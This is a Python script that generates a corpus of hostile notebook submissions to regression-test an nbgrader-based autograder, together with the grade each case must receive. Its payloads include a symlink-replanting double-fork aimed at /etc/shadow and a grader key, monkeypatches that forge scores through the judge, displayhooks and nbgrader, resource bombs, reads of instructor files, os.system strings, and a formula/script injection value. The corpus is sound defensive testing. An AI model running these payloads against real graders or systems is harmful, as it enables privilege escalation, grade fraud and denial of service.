"""Build the hostile-submission corpus in tests/hostile/ from a release notebook.

Usage: python tools/make_hostile_corpus.py [--check]

Each case starts from the reference submission of HW (the release notebook
with the solutions filled in) and breaks it one way: a hang, a memory bomb,
a kernel crash, edited or reordered cells, reading the instructor's files,
rigged comparisons, flooding output, a corrupt file... tests/hostile/cases.json
records the grade each must get; tests/grading/test_hostile.py grades them all in one
class with the reference and checks every grade, and that nobody else's
changed. Targets the answer cell TARGET and its test cell TARGET_TESTS.
"""
from __future__ import annotations

import argparse
import copy
import json
import sys
from pathlib import Path

import nbformat

from dgmlab.authoring.examples import reference_submission

ROOT = Path(__file__).resolve().parents[1]

HW = "hw3_flows"
TARGET = "q3_d_star"  # an answer cell
TARGET_TESTS = "q3_d_star_tests"  # the test cell that checks it
OUT = ROOT / "tests" / "hostile"

CORRECT_D_STAR_PLACEHOLDER = "<<reference>>"  # noqa: S105 (a marker, not a secret)


def _gid(cell):
    return cell.get("metadata", {}).get("nbgrader", {}).get("grade_id")


def _index(nb, gid):
    return next(i for i, c in enumerate(nb.cells) if _gid(c) == gid)


# A process that leaves the kernel's process tree and session (double fork, setsid), then for two minutes keeps
# links in the kernel's working folder to files the kernel's user cannot read but root can write: the graded
# notebook's own name (nbgrader writes it there after the kernel) and another name (nbgrader's permission step
# chmods every file there). Against the user wall unpatched, root wrote the notebook over /etc/shadow through it.
REPLANT = """import os, time
def _replant(folder, links):
    child = os.fork()
    if child:
        os.waitpid(child, 0)
        return
    os.setsid()
    if os.fork():
        os._exit(0)
    os.closerange(3, 4096)
    end = time.time() + 120
    while time.time() < end:
        for name, target in links.items():
            path = os.path.join(folder, name)
            try:
                if not os.path.lexists(path):
                    os.symlink(target, path)
            except OSError:
                pass
        time.sleep(0.002)
    os._exit(0)
_replant(os.getcwd(), {'hw3_flows.ipynb': '/etc/shadow', 'notes.txt': '/autograder/source/grader/draw.key'})"""


def replace_answer(source):
    def transform(nb, ref_source):
        nb.cells[_index(nb, TARGET)].source = source.replace(CORRECT_D_STAR_PLACEHOLDER, ref_source)
        return nb
    return transform


def prepend_to_answer(code):
    def transform(nb, ref_source):
        nb.cells[_index(nb, TARGET)].source = code + "\n" + ref_source
        return nb
    return transform


def delete_cell(gid):
    def transform(nb, ref_source):
        del nb.cells[_index(nb, gid)]
        return nb
    return transform


def swap_answer_and_test(nb, ref_source):
    i, j = _index(nb, TARGET), _index(nb, TARGET_TESTS)
    nb.cells[i], nb.cells[j] = nb.cells[j], nb.cells[i]
    return nb


def duplicate_test_cell(nb, ref_source):
    j = _index(nb, TARGET_TESTS)
    twin = copy.deepcopy(nb.cells[j])
    twin["id"] = f"{nb.cells[j].get('id', 'cell')}-twin"
    nb.cells.insert(j + 1, twin)
    return nb


def test_cell_to_markdown(nb, ref_source):
    j = _index(nb, TARGET_TESTS)
    cell = nb.cells[j]
    nb.cells[j] = nbformat.v4.new_markdown_cell(cell.source, metadata=cell.metadata)
    nb.cells[j]["id"] = cell.get("id", "cell")
    return nb


def wrong_answer_and_gutted_test(nb, ref_source):
    nb.cells[_index(nb, TARGET)].source = WRONG_D_STAR
    nb.cells[_index(nb, TARGET_TESTS)].source = "print('all good')"
    return nb


def edited_locked_setup(nb, ref_source):
    nb.cells[_index(nb, "setup")].source = "import os\nos.environ.pop('NBGRADER_EXECUTION', None)\n" \
        "import dgmlab\ndevice = dgmlab.setup()"
    return nb


WRONG_D_STAR = '''g = a * sp.log(D) + b * sp.log(1 - D)
D_star = b / (a - b)  # wrong everywhere: it earns none of the cell's points (each is per test now)
second_derivative_at_D_star = sp.diff(g, D, 2).subs(D, D_star)'''

PARTIAL_D_STAR = '''g = a * sp.log(D) + b * sp.log(1 - D)
D_star = a / (a + b)
second_derivative_at_D_star = -sp.simplify(sp.diff(g, D, 2).subs(D, D_star))  # wrong: the loss's, not g's
g_alpha = a * ((1 - alpha) * sp.log(D) + alpha * sp.log(1 - D)) + b * sp.log(1 - D)
D_star_smoothed = sp.solve(sp.diff(g_alpha, D), D)[0]'''

# Forging a partial-credit score: each case answers d_star as PARTIAL_D_STAR does (4 of the cell's 5
# points: the second derivative is wrong) and adds a trick; "as_answers" must earn exactly what the
# honest "partial_d_star_baseline" earns, "at_most_as_answers" no more.
FORGING = {
    "partial_d_star_baseline": ("", "baseline", "an honest partly-wrong answer: the second derivative's sign"),
    "redefines_check": ("import dgmlab.probes\ndgmlab.probes.check = lambda *a, **k: 5.0",
                        "at_most_as_answers", "check() replaced by one that returns full marks"),
    "judges_itself": (
        "import dgmlab.probes as _P\n_judge = _P.judge\n"
        "def _full(hw, spec, *a, **k):\n"
        "    got = _judge(hw, spec, *a, **k)\n"
        "    got.earned = spec.points\n"
        "    return got\n"
        "_P.judge = _full", "at_most_as_answers", "the kernel's judge rigged to give every point"),
    "rigs_the_comparison_helper": ("sympy_gap = lambda *a, **k: 0.0\nimport dgmlab.probes.asserts\n"
                                   "dgmlab.probes.asserts.sympy_gap = sympy_gap", "at_most_as_answers",
                                   "the comparison helper the tests call rigged to say 'equal'"),
    "patches_nbgrader_partial_credit": (
        "try:\n    import nbgrader.utils as _U\n    _U.get_partial_grade = lambda *a, **k: 5\n"
        "    _U.determine_grade = lambda cell, log=None: (5, 5)\nexcept ImportError:\n    pass",
        "as_answers", "nbgrader's partial-credit reading patched inside the kernel (the grader is another process)"),
    "prints_and_displays_a_number": ("print(5)\nfrom IPython.display import display\ndisplay(5)\ndisplay(5.0)",
                                     "as_answers", "prints and displays a number in the answer cell"),
    "number_as_last_expression": ("5.0", "as_answers", "a number as the answer cell's result"),
    "score_like_exception": ("class Five(Exception):\n    def __repr__(self):\n        return '5'\n"
                             "    __str__ = __repr__\nraise Five()", "as_answers",
                             "raises an exception whose repr is a score"),
    "custom_exception_handler": (
        "get_ipython().set_custom_exc((Exception,), lambda shell, etype, value, tb, tb_offset=None: "
        "shell.displayhook(5))", "at_most_as_answers", "set_custom_exc turns every failure into a 5"),
    "patched_text_formatter": (
        "get_ipython().display_formatter.formatters['text/plain'].for_type(float, lambda o, p, c: p.text('5'))",
        "as_answers", "every float displays as 5: a score displays through its own bundle, unchanged"),
    "patched_displayhook": ("_hook = get_ipython().displayhook\n_write = _hook.write_format_data\n"
                            "_hook.write_format_data = lambda data, md=None: _write({**data, 'text/plain': '5'}, md)",
                            "at_most_as_answers", "the kernel's displayhook writes 5 for every result"),
    "post_run_cell_hook": ("get_ipython().events.register('post_run_cell', lambda result: "
                           "get_ipython().displayhook(5))", "at_most_as_answers",
                           "a post_run_cell hook displays 5 after every cell"),
    "pre_run_cell_hook": ("get_ipython().events.register('pre_run_cell', lambda info: get_ipython().displayhook(5))",
                          "at_most_as_answers", "a pre_run_cell hook displays 5 before every cell"),
    "input_transformer": ("get_ipython().input_transformers_post.append("
                          "lambda lines: ['5\\n'] if any('check(' in l for l in lines) else lines)",
                          "at_most_as_answers", "an input transformer replaces every test cell by 5"),
    # the kernel computes, the grader judges (issue 36): whatever a notebook does to the machinery in its
    # own kernel, the grader decides from the data it shows
    "hooks_the_check_machinery": (
        "import dgmlab.probes as _P, dgmlab.runtime as _R\n"
        "_P.judge = lambda *a, **k: _P.Judgement(5.0, 5.0, ['passed everything'], [])\n"
        "_P.run_probe = lambda spec, objects, seed: {n: 'passed' for n in spec.names}\n"
        "_R.seed_everything = lambda *a, **k: globals().update({k: (lambda: None) for k in list(globals()) "
        "if k.startswith('test_')})",
        "at_most_as_answers", "hooks replace the probe, the judge and the seeding the tests once called"),
    "shows_a_second_probe": (
        "import dgmlab.probes as _P\nfrom IPython.display import display as _display\n_check = _P.check\n"
        "def check(cell, *objects, seed=0):\n"
        "    _check(cell, *objects, seed=seed)\n"
        "    _display({_P.PROBE_MIME: {'cell': cell, 'data': '{\"dict\": {}}'}}, raw=True)\n"
        "_P.check = check",
        "at_most_as_answers", "the test cell shows a second, forged probe result"),
    "patches_displayhook_base_class": (
        "from IPython.core.displayhook import DisplayHook as _DH\n_w = _DH.write_format_data\n"
        "_DH.write_format_data = lambda self, data, md=None: _w(self, {**data, 'text/plain': '5'}, md)\n"
        "from ipykernel.displayhook import ZMQShellDisplayHook as _Z\n"
        "_Z.write_format_data = _DH.write_format_data",
        "at_most_as_answers", "the display hook's base class writes 5 for every result"),
    "dumps_history_and_memory": (
        "import gc, sys\nprint(list(globals().get('In', []))[-50:])\nprint(sorted(globals())[:200])\n"
        "print([getattr(o, '__qualname__', '') for o in gc.get_objects() if callable(o)"
        " and getattr(o, '__name__', '').startswith('test_')][:200])\n"
        "print([m for m in sys.modules if 'judge' in m or 'hidden' in m])",
        "as_answers", "prints input history, globals and live test functions looking for hidden tests"),
}

# Attacked again (issue 45, item 7): a student who has read the whole kit
SIDE_EFFECT = "/tmp/dgmlab-hostile-sympified"  # what a string answer would write if the grader evaluated it
STRING_ANSWERS = (f"D_star = \"__import__('pathlib').Path('{SIDE_EFFECT}').write_text('x') or a / (a + b)\"\n"
                  f"second_derivative_at_D_star = \"__import__('os').system('touch {SIDE_EFFECT}') or "
                  f"-(a + b)**3 / (a * b)\"\n"
                  f"D_star_smoothed = \"__import__('os').system('touch {SIDE_EFFECT}') or (1 - alpha) * a / (a + b)\"")
WALK_MARK = "WALKED:"  # the line walks_the_root prints: a JSON list of every path it found
WALK_ROOT = f"""import json as _json, os as _os, sys as _sys
_found, _skip = [], ("/proc", "/sys", "/usr", "/etc/alternatives", _sys.prefix, _sys.base_prefix,
                     _os.path.dirname(_os.path.dirname(__import__("dgmlab").__file__)))
def _walk(folder, depth):
    try:
        names = sorted(_os.listdir(folder))
    except OSError:
        return
    for name in names:
        path = _os.path.join(folder, name)
        _found.append(path)
        if depth < 10 and _os.path.isdir(path) and not _os.path.islink(path) and path not in _skip:
            _walk(path, depth + 1)
_walk("/", 0)
print({WALK_MARK!r} + _json.dumps(_found[:1500]))
print("ENVIRONMENT:" + _json.dumps(sorted(_os.environ)))"""
# a spreadsheet formula that opens a link, then escape codes that clear the terminal and retitle it, then a script
EVIL = '=HYPERLINK("http://x","click")\x1b[2J\x1b]0;owned\x07<script>alert(1)</script>'


def formula_grade_id_cell(nb, ref_source):
    """A cell added after the target's test cell with nbgrader metadata whose grade id is EVIL (100 points), which
    prints EVIL and raises it."""
    cell = nbformat.v4.new_code_cell(f"print({EVIL!r})\nraise ValueError({EVIL!r})", metadata={"nbgrader": {
        "grade": True, "grade_id": EVIL, "points": 100, "locked": False, "solution": False, "schema_version": 3}})
    cell["id"] = "added-formula-cell"
    nb.cells.insert(_index(nb, TARGET_TESTS) + 1, cell)
    return nb


def exec_encoded_solution(nb, ref_source):
    import base64
    import zlib

    blob = base64.b64encode(zlib.compress(ref_source.encode())).decode()
    nb.cells[_index(nb, TARGET)].source = f"import base64, zlib\nexec(zlib.decompress(base64.b64decode('{blob}')))"
    return nb


COMPUTED_KIT_IMPORT = ('_name = "pro" + "bes"\n_kit = getattr(__import__("dgmlab." + _name), _name)\n'
                       'print(type(_kit).__name__)')

HOSTILE = {
    # name: (transform, expectation, why)
    "infinite_loop": (prepend_to_answer("while True:\n    pass"), "loses_target",
                      "the answer cell never finishes; the cell time limit stops it"),
    "sleep_forever": (prepend_to_answer("import time\ntime.sleep(10**6)"), "loses_target",
                      "a blocking sleep is stopped by the cell time limit"),
    "memory_bomb": (prepend_to_answer("hog = []\nwhile True:\n    hog.append(bytearray(10**8))"), "loses_target",
                    "allocates until the memory limit stops it"),
    "os_exit": (prepend_to_answer("import os\nos._exit(0)"), "at_most_before_target",
                "kills the kernel from inside"),
    "sys_exit": (prepend_to_answer("import sys\nsys.exit(0)"), "loses_target",
                 "SystemExit in a cell: IPython stops that cell only"),
    "segfault": (prepend_to_answer("import ctypes\nctypes.string_at(0)"), "at_most_before_target",
                 "a segmentation fault kills the kernel"),
    "deleted_answer_cell": (delete_cell(TARGET), "loses_target", "the answer cell is gone"),
    "deleted_test_cell": (delete_cell(TARGET_TESTS), "loses_target", "the graded test cell is gone"),
    "reordered_cells": (swap_answer_and_test, "loses_target", "the test cell runs before the answer"),
    "duplicated_test_cell": (duplicate_test_cell, "full", "a copy of a test cell earns nothing extra"),
    "test_cell_turned_markdown": (test_cell_to_markdown, "at_most_full", "a test cell changed to Markdown"),
    "gutted_test_cell_with_wrong_answer": (wrong_answer_and_gutted_test, "loses_target",
                                           "the test cell was emptied and the answer is wrong"),
    "edited_locked_setup_cell": (edited_locked_setup, "full", "locked cells are restored before grading"),
    "reads_instructor_files": (prepend_to_answer(
        "import pathlib\nfor p in ['../../../source/hw3_flows/hw3_flows.ipynb', '../../../gradebook.db']:\n"
        "    print(p, pathlib.Path(p).exists())\n"
        "leak = pathlib.Path('../../../source/hw3_flows/hw3_flows.ipynb').read_text()"), "loses_target",
        "the instructor's files are invisible, so the read fails"),
    "replants_links_after_the_kernel": (prepend_to_answer(REPLANT), "full",
                                        "a double-forked setsid process re-plants links to root-only files in the "
                                        "working folder after it is emptied: it dies with the kernel's user (killed "
                                        "by user id, or with the sandbox), so nbgrader never writes through them"),
    "reads_gradescope_metadata": (replace_answer(
        "try:\n    _meta = open('/autograder/submission_metadata.json', encoding='utf-8').read()\n"
        "except OSError:\n    _meta = ''\n" + CORRECT_D_STAR_PLACEHOLDER + "\n"
        "if _meta:  # it read Gradescope's metadata (earlier results): a wrong answer shows it in the score\n"
        "    D_star = None\n"), "full",
        "Gradescope's submission_metadata.json (earlier results in previous_submissions) is root's alone before "
        "the kernel starts (none in a course): the read fails, so the answer stays right"),
    "network_access": (prepend_to_answer(
        "import socket\nsocket.create_connection(('192.0.2.1', 80), timeout=3)"), "loses_target",
        "there is no network: the connection fails"),
    "always_equal_object": (replace_answer(
        "import sympy as sp\nclass AlwaysEqual:\n    def __eq__(self, other): return True\n"
        "    def __bool__(self): return True\n    def __sub__(self, other): return 0\n"
        "    def __rsub__(self, other): return 0\n"
        "    def subs(self, *a, **k): return self\n"
        "D_star = AlwaysEqual()\nsecond_derivative_at_D_star = AlwaysEqual()"), "loses_target",
        "an object whose __eq__ is always True is not a sympy expression"),
    "patches_sympy_and_torch": (replace_answer(
        "import sympy as sp, torch, numpy as np\nsp.simplify = lambda e, *a, **k: 0\n"
        "torch.allclose = lambda *a, **k: True\nnp.allclose = lambda *a, **k: True\n" + WRONG_D_STAR),
        "loses_target", "comparison functions patched: the test cell notices, fails, and restores them"),
    "patches_dgmlab_checks": (replace_answer(
        "import dgmlab.probes.asserts\nfor _n in dir(dgmlab.probes.asserts):\n    if _n.startswith('assert_'):\n"
        "        setattr(dgmlab.probes.asserts, _n, lambda *a, **k: None)\n" + WRONG_D_STAR),
        "loses_target", "dgmlab's checks patched: the test cell notices, fails, and restores them"),
    "writes_outside_its_folder": (prepend_to_answer(
        "import pathlib\nfor p in ['../../../release/hw3_flows/hw3_flows.ipynb', '../../../gradebook.db',\n"
        "          '../../../nbgrader_config.py', '../../other_student/hw3_flows/x.txt']:\n"
        "    try:\n        pathlib.Path(p).parent.mkdir(parents=True, exist_ok=True)\n"
        "        pathlib.Path(p).write_text('overwritten')\n    except OSError as exc:\n        print(exc)"),
        "full", "writes land in a throw-away view, never in the course"),
    "million_lines": (prepend_to_answer("for i in range(10**6):\n    print(i)"), "at_most_full",
                      "output is capped and a slow cell is interrupted; grading goes on"),
    "leaves_grading_mode": (prepend_to_answer(
        "import os\nos.environ['NBGRADER_EXECUTION'] = ''\nimport dgmlab.runtime\n"
        "assert dgmlab.runtime.is_grading(), 'left grading mode'"), "full",
        "grading mode is sticky, so the notebook still grades"),
    "writes_an_extra_notebook": (prepend_to_answer(
        "import json, pathlib\nnb = {'cells': [], 'metadata': {}, 'nbformat': 4, 'nbformat_minor': 5}\n"
        "pathlib.Path('extra.ipynb').write_text(json.dumps(nb))\n"
        "pathlib.Path('hw3_flows_copy.ipynb').write_text(json.dumps(nb))"), "full",
        "a notebook written while graded is neither graded nor returned, and stops nothing"),
    "one_huge_output_line": (prepend_to_answer("print('x' * 100_000_000)"), "at_most_before_target",
                             "one 100 MB line is one message over the grader's 32 MiB: refused unread, "
                             "the grading fails saying so"),
    "fills_tmpfs": (prepend_to_answer(
        "for _folder in ('/dev/shm', '/var/tmp', '/tmp'):\n    try:\n"
        "        for _f in range(64):  # 64 files of 64 MiB: under the largest-file limit, 4 GiB in all\n"
        "            with open(f'{_folder}/fill{_f}', 'wb') as fh:\n"
        "                for _ in range(64):\n                    fh.write(b'0' * 2**20)\n"
        "    except OSError as exc:\n        print(_folder, type(exc).__name__)"), "full",
        "writing GiBs to the sandbox's tmpfs mounts stops at their size"),
    "thousands_of_files": (prepend_to_answer(
        "import pathlib\nfor _i in range(5000):\n    pathlib.Path(f'f{_i}.txt').write_text('x')"), "full",
        "thousands of files in the working folder are not read back"),
    # the grader's own work on an answer is bounded per cell (red team F6): the cell earns 0, the others their points
    "exp_tower_answer": (replace_answer(
        CORRECT_D_STAR_PLACEHOLDER + "\nD_star = sp.exp(sp.exp(sp.exp(sp.exp(sp.exp(a)))))"), "others_full",
        "an exp of an exp of an exp... as the answer is refused as data; every other cell is graded"),
    "slow_to_check_answer": (replace_answer(
        CORRECT_D_STAR_PLACEHOLDER + "\nD_star = (a + b + 1)**1000"), "others_full",
        "an answer sympy's simplification took minutes on is compared by value, at once, and loses its points; "
        "every other cell is graded"),
    "string_answers_that_would_run_code": (replace_answer(STRING_ANSWERS), "loses_target",
                                           "answers given as strings of code: never evaluated, they earn 0 and "
                                           "write nothing"),
    "walks_the_root": (prepend_to_answer(WALK_ROOT), "full",
                       "walks / and prints every path it finds: only the sandbox's allow-list is there"),
    "formula_grade_id": (formula_grade_id_cell, "full", "an added cell whose grade id is a spreadsheet formula with "
                         "escape codes and a script, printing and raising it: graded as a cell the student added"),
    "exec_of_an_encoded_solution": (exec_encoded_solution, "full", "the kit's solution run from base64 and zlib: "
                                    "graded as the answer it is, and listed by dgmlab report"),
    "computed_kit_import": (prepend_to_answer(COMPUTED_KIT_IMPORT), "full", "reaches dgmlab.probes through "
                            "__import__ and a computed getattr: graded, and listed by dgmlab report"),
    "huge_artifact": (prepend_to_answer(
        "with open('samples.pt', 'wb') as fh:\n    for _ in range(2048):\n        fh.write(b'0' * 2**20)"),
        "loses_target", "a 2 GiB file hits the file-size limit"),
}

# what the target's test cell must say in the autograded notebook, for cases whose grade alone does not show it
TARGET_SAYS = {"exp_tower_answer": "cannot be evaluated", "slow_to_check_answer": "is not equivalent to the expected expression",
               "string_answers_that_would_run_code": "a string is never evaluated"}
# what `dgmlab report` must list of the target answer cell (dgmlab.grading.copies.runtime_code)
RUNTIME_CODE = {"exec_of_an_encoded_solution": ["exec of zlib.decompress of base64.b64decode"],
                "computed_kit_import": ["__import__", "getattr with a computed name"]}



def _cell_of(nb: dict, gid: str) -> dict:
    return next(c for c in nb["cells"] if c.get("metadata", {}).get("nbgrader", {}).get("grade_id") == gid)


def _set(gid, key, value):
    def transform(nb):
        _cell_of(nb, gid)[key] = value
    return transform


def _set_metadata(gid, key, value):
    def transform(nb):
        _cell_of(nb, gid)["metadata"][key] = value
    return transform


def _same_ids(nb):
    for cell in nb["cells"]:
        cell["id"] = "same"


def _version(nb):
    nb["nbformat"] = 5


# Notebook JSON that nbformat would not write: each ends in a grade, a failed record with the reason, or invalid
# with the reason, and `dgmlab autograde` goes on with the class. name: (transform of the JSON, expectation, why)
MALFORMED = {
    "test_cell_nbgrader_metadata_a_list": (_set_metadata(TARGET_TESTS, "nbgrader", ["grade_id", TARGET_TESTS]),
                                           "loses_target", "the test cell's nbgrader metadata is a list: it runs as "
                                           "a cell the student added, so the target's test cell is missing"),
    "answer_nbgrader_metadata_a_string": (_set_metadata(TARGET, "nbgrader", "solution"), "full",
                                          "the answer cell's nbgrader metadata is a string: it runs as the "
                                          "student's own cell"),
    "cell_metadata_a_list": (_set(TARGET, "metadata", ["nbgrader"]), "invalid", "a cell's metadata is a list"),
    "cell_id_a_number": (_set(TARGET, "id", 7), "failed", "a cell id that is not a string"),
    "huge_cell_id": (_set(TARGET, "id", "a" * 200_000), "failed", "a cell id of 200,000 characters"),
    "duplicated_cell_ids": (_same_ids, "full", "every cell has the same id"),
    "nbformat_version_lie": (_version, "invalid", "says nbformat 5, which does not exist"),
}

RAW = {
    "not_utf8": b'{"cells": [], "metadata": {}, "nbformat": 4, "nbformat_minor": 5, "x": "\xff\xfe"}',
    "truncated_json": None,  # first half of the reference
    "empty_file": b"",
}


def build():
    release = nbformat.read(ROOT / "release" / HW / f"{HW}.ipynb", as_version=4)
    source = nbformat.read(ROOT / "source" / HW / f"{HW}.ipynb", as_version=4)
    reference = reference_submission(release, source)
    ref_source = reference.cells[_index(reference, TARGET)].source
    files, cases = {}, {}
    for name, (transform, expect, why) in HOSTILE.items():
        nb = transform(copy.deepcopy(reference), ref_source)
        files[name] = (nbformat.writes(nb) + "\n").encode("utf-8")
        cases[name] = {"expect": expect, "why": why}
        if name in TARGET_SAYS:
            cases[name]["target_says"] = TARGET_SAYS[name]
    for name, (trick, expect, why) in FORGING.items():
        nb = copy.deepcopy(reference)
        nb.cells[_index(nb, TARGET)].source = PARTIAL_D_STAR + ("\n" + trick if trick else "")
        files[name] = (nbformat.writes(nb) + "\n").encode("utf-8")
        cases[name] = {"expect": expect, "why": why}
    for name, (transform, expect, why) in MALFORMED.items():
        nb = json.loads(nbformat.writes(reference))
        transform(nb)
        files[name] = (json.dumps(nb, indent=1, sort_keys=True, ensure_ascii=False) + "\n").encode("utf-8")
        cases[name] = {"expect": expect, "why": why}
    for name, listed in RUNTIME_CODE.items():
        cases[name]["runtime_code"] = listed
    text = (nbformat.writes(reference) + "\n").encode("utf-8")
    for name, raw in RAW.items():
        files[name] = text[: len(text) // 2] if raw is None else raw
        cases[name] = {"expect": "invalid", "why": "not a readable notebook"}
    meta = {"hw": HW, "target": TARGET, "target_tests": TARGET_TESTS, "cases": cases, "side_effect": SIDE_EFFECT,
            "walk_mark": WALK_MARK, "evil": EVIL}
    return files, (json.dumps(meta, indent=1, sort_keys=True) + "\n").encode("utf-8")


def main(argv=None) -> int:
    p = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    p.add_argument("--check", action="store_true", help="exit 1 if tests/hostile/ is out of date")
    args = p.parse_args(argv)
    files, meta = build()
    wanted = {OUT / f"{name}.ipynb": data for name, data in files.items()}
    wanted[OUT / "cases.json"] = meta
    if args.check:
        stale = [str(p.relative_to(ROOT)) for p, d in wanted.items() if not p.exists() or p.read_bytes() != d]
        if stale:
            print(f"out of date: {stale}; run python tools/make_hostile_corpus.py", file=sys.stderr)
            return 1
        return 0
    OUT.mkdir(parents=True, exist_ok=True)
    for path, data in wanted.items():
        path.write_bytes(data)
    print(f"wrote {len(files)} cases to {OUT.relative_to(ROOT)}")
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
